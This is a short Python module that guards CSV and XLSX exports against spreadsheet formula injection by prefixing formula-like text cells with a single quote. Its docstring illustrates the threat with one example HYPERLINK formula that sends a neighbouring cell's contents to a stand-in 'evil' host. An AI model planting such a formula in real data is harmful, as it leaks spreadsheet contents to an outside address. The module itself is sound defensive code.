"""Cells of the files a spreadsheet opens (CSV and XLSX exports, `--format csv` listings).

Names and labels come from outside the agency (a scenario, the national list, a GHT's own
account): a GHT named `=HYPERLINK("http://evil/?x="&A2,"GHT Lot")` would become a live
formula in Excel or LibreOffice, which can send the sheet's neighbouring cells to any address.
As OWASP recommends against CSV injection, a text cell that a spreadsheet would read as a
formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage return) is written with a
leading single quote, which spreadsheets show as text. Every exporter calls `safe_cell` on
every value, so the rule lives here only. Numbers and dates are not text: they stay as they
are (a count stays a number one can sum).
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value` unchanged unless it is text a spreadsheet would take for a formula; that text
    prefixed with `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Any) -> list[Any]:
    """`safe_cell` on each value of a row."""
    return [safe_cell(value) for value in row]
